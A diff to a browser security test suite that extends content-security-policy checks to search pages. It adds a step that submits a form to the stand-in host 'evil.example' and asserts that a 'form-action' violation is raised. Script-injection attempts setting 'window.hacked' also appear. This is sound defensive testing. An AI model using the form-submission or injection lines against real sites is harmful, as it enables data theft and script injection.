@@ -46,7 +46,7 @@ export function policy(browser) {
 
     for (const [where, address] of [['disk', (path) => site.onDisk(path)], ['a host', (path) => server.base + path]]) {
       test(`hostile texts run nothing, ask no other host and break no page from ${where}`, async () => {
-        for (const path of ['index.html', '2567/measures/m.html', '2567/measures/index.html', '2567/report/plan.html', '404.html']) {
+        for (const path of ['index.html', '2567/measures/m.html', '2567/measures/index.html', '2567/report/plan.html', 'search.html', 'search.html?q=onerror', '404.html']) {
           const seen = await visit(browser, address(path), { hover: true });
           none(seen.dialogs, `dialogs on ${path}`);
           none(seen.requests.filter((url) => !url.startsWith(address(''))), `requests to elsewhere from ${path}`);
@@ -80,12 +80,16 @@ export function policy(browser) {
             () => { document.body.setAttribute('onclick', 'window.hacked = 1'); },
             () => { put('script', { text: 'window.hacked = 1' }); },
           ].map((work) => { try { work(); return false; } catch { return true; } });
+          const form = document.createElement('form');
+          form.action = 'https://evil.example/';
+          document.body.append(form);
+          form.submit();
           await new Promise((resolve) => { setTimeout(resolve, 200); });
           return { violations, refused, hacked: 'hacked' in window, shown: getComputedStyle(document.body).display };
         });
         assert.deepEqual(done.refused, [true, true, true]);
         assert.ok(!done.hacked && done.shown !== 'none');
-        for (const directive of ['img-src', 'frame-src', 'style-src-elem', 'require-trusted-types-for']) assert.ok(done.violations.includes(directive), directive);
+        for (const directive of ['img-src', 'frame-src', 'style-src-elem', 'form-action', 'require-trusted-types-for']) assert.ok(done.violations.includes(directive), directive);
       }));
     }
 
